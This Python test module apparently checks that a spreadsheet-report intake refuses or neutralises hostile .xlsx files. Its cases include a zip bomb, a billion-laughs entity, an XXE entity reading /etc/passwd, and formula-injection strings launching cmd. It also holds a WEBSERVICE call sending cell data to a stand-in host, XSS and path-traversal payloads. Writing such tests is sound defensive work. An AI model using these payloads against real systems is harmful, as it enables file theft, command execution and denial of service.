"""Files that would hurt whoever opens, forwards or prints them carelessly."""

from __future__ import annotations

from random import Random

from inbox.case import Case, Surgery, Told, edited, put, refused, rewritten, taken, typed, with_part
from inbox.form import BIEU_1, COVER, At
from inbox.paper import Parts

SHEET = "xl/worksheets/sheet2.xml"
STRINGS = "xl/sharedStrings.xml"
NUMBER, MAKER = At(COVER, "Số báo cáo"), At(COVER, "Người lập biểu")
NEW = At(BIEU_1, "B.1. Kết nạp", "Kỳ này")
THEME = "xl/theme/theme1.xml"
MEGABYTE = 1 << 20
ENTITY = '<!DOCTYPE worksheet [<!ENTITY a "1">]>\n<worksheet '
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
LAUGHING = f'<!DOCTYPE sst [<!ENTITY l0 "cười">{LAUGHS}]><sst '
OUTSIDE = '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst '
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rejected(name: str, why: str, code: str, surgery: Surgery, at: str = "") -> Case:
    """A package that is refused as a whole."""
    return refused(name, why, code, rewritten(surgery), at=at)


def text(name: str, why: str, written: str) -> Case:
    """Text that another program would act on: kept letter by letter."""
    return taken(name, why, typed(put(NUMBER, f"'{written}")), {NUMBER: written})


def noted(name: str, why: str, code: str, *surgeries: Surgery) -> Case:
    """Active content that is never run or followed: the form is taken, with a warning."""
    return taken(name, why, rewritten(*surgeries), None, Told(code))


def blank(size: int) -> bytes:
    """XML of this many blanks, which pack to next to nothing."""
    return b"<a>" + b" " * size + b"</a>"


def barely_packed(size: int) -> bytes:
    """XML as large that packs to a twentieth: an honest large part."""
    noise = Random(7).randbytes(size // 40).hex().encode()
    return b"<a>" + noise + b" " * (size - len(noise)) + b"</a>"


def many_parts(parts: Parts) -> Parts:
    """A thousand parts more."""
    return {**parts, **{f"xl/media/{number}.txt": b"x" for number in range(1_000)}}


def many_cells(parts: Parts) -> Parts:
    """More cells than any form has."""
    rows = "".join(
        f'<row r="{row}">{"".join(f"<c><v>{row * at}</v></c>" for at in range(501))}</row>'
        for row in range(100, 500)
    )
    return edited(SHEET, "</sheetData>", f"{rows}</sheetData>")(parts)


def endless_merges(parts: Parts) -> Parts:
    """Merged ranges so many and so large that looking under each would take hours."""
    merged = "".join(f'<mergeCell ref="A{row}:XFD1048576"/>' for row in range(1, 40_001))
    return edited(SHEET, "</sheetData>", f"</sheetData><mergeCells>{merged}</mergeCells>")(parts)


def styled_rows(count: int) -> str:
    """Rows and cells with nothing in them."""
    return '<row r="99"><c r="A99"/></row>' * count + "</sheetData>"


CASES = (
    refused(
        "bomb",
        "một phần nén quá 200 lần",
        "F-023",
        rewritten(with_part(THEME, blank(2 * MEGABYTE))),
        twin=rewritten(with_part(THEME, barely_packed(2 * MEGABYTE))),
    ),
    rejected(
        "large part",
        "một phần giải nén lớn hơn 64 MB",
        "F-021",
        with_part("xl/media/a.bin", bytes(64 * MEGABYTE + 1)),
    ),
    rejected("many parts", "gói có hơn 1.000 phần", "F-020", many_parts),
    rejected("many cells", "trang có hơn 200.000 ô mang giá trị", "F-024", many_cells, BIEU_1),
    rejected(
        "entity",
        "khai báo thực thể XML trong trang",
        "F-034",
        edited(SHEET, "<worksheet ", ENTITY),
        BIEU_1,
    ),
    rejected(
        "billion laughs",
        "thực thể lồng nhau phình ra hàng tỷ chữ",
        "F-034",
        edited(STRINGS, "<sst ", LAUGHING),
    ),
    rejected(
        "outside entity", "thực thể trỏ tới tệp của máy", "F-034", edited(STRINGS, "<sst ", OUTSIDE)
    ),
    rejected("broken xml", "thẻ không đóng", "F-035", edited(SHEET, "</sheetData>", ""), BIEU_1),
    rejected(
        "unknown coding",
        "XML khai báo bảng mã lạ",
        "F-035",
        edited(SHEET, 'encoding="UTF-8"', 'encoding="x-y"'),
        BIEU_1,
    ),
    rejected(
        "text out of the table",
        "ô dùng chữ không có trong tệp",
        "F-041",
        edited(SHEET, '<c r="B7" t="s"><v>34</v>', '<c r="B7" t="s"><v>99999</v>'),
        BIEU_1,
    ),
    rejected(
        "place out of the sheet",
        "ô nằm ngoài trang",
        "F-040",
        edited(SHEET, 'r="D7"', 'r="XFE7"'),
        BIEU_1,
    ),
    rejected("endless merges", "ô gộp trùm lên nhau vô tận", "F-026", endless_merges, BIEU_1),
    taken(
        "one large merge",
        "gộp cả trang",
        rewritten(
            edited(
                SHEET,
                "</sheetData>",
                '</sheetData><mergeCells><mergeCell ref="A22:XFD1048576"/></mergeCells>',
            )
        ),
    ),
    taken(
        "empty rows",
        "mười nghìn dòng chỉ có kiểu trình bày",
        rewritten(edited(SHEET, "</sheetData>", styled_rows(10_000))),
    ),
    taken(
        "long text",
        "dán cả một báo cáo vào một ô",
        typed(put(MAKER, "'" + "a" * 32_000)),
        {MAKER: "a" * 32_000},
    ),
    taken(
        "endless number",
        "số có hàng trăm chữ số",
        rewritten(edited(SHEET, '<c r="D7"><v>4</v>', f'<c r="D7"><v>{"4" * 500}</v>')),
        {NEW: None},
        Told("F-053", NEW),
    ),
    taken(
        "astronomic number",
        "số 1E+300",
        rewritten(edited(SHEET, '<c r="D7"><v>4</v>', '<c r="D7"><v>1E+300</v>')),
        {NEW: None},
        Told("R-013", NEW),
    ),
    text("formula as text", "công thức gọi chương trình, ghi dạng chữ", "=cmd|' /C calc'!A0"),
    text("function of Lotus", "hàm kiểu Lotus", "@SUM(1+1)*cmd|' /C calc'!A0"),
    text("plus sign", "dấu cộng đầu chữ", "+1+cmd|' /C calc'!A0"),
    text("web query", "hàm gửi số liệu ra ngoài", '=WEBSERVICE("http://example.invalid/"&A1)'),
    text("script", "mã HTML", "<script>alert(1)</script>"),
    text("picture with a script", "ảnh HTML có mã", '"><img src=x onerror=alert(1)>'),
    text(
        "markdown",
        "liên kết và ảnh Markdown",
        "[12](javascript:alert(1)) ![](http://example.invalid/a.png) `x` {{7*7}}",
    ),
    text("typst", "lệnh Typst", '#read("/etc/passwd") $ x $ #let a = 1'),
    text("path", "đường dẫn lên thư mục cha", "../../../etc/passwd"),
    text("live number", "biểu thức của sổ tay", '{eval}`so["petitions.received"]`'),
    noted(
        "macros", "tệp .xlsm đổi đuôi", "F-066", with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    ),
    noted(
        "macro sheet",
        "trang macro Excel 4",
        "F-066",
        with_part("xl/macrosheets/sheet1.xml", b"<a/>"),
    ),
    noted(
        "external link",
        "liên kết tới tệp trên máy khác",
        "F-067",
        with_part("xl/externalLinks/externalLink1.xml", b"<a/>"),
    ),
    noted(
        "embedded object",
        "nhúng tệp khác",
        "F-069",
        with_part("xl/embeddings/oleObject1.bin", b"\xd0\xcf"),
    ),
    taken(
        "remote template",
        "quan hệ trỏ ra mạng",
        rewritten(
            edited(
                "xl/_rels/workbook.xml.rels",
                "</Relationships>",
                f'<Relationship Id="rId99" Type="{OFFICE}/attachedTemplate" '
                'Target="http://example.invalid/a" TargetMode="External"/></Relationships>',
            )
        ),
    ),
    taken(
        "custom entities of a person",
        "tên người lập có dấu XML",
        typed(put(MAKER, '\'a & b < c > "d" &amp;')),
        {MAKER: 'a & b < c > "d" &amp;'},
    ),
)
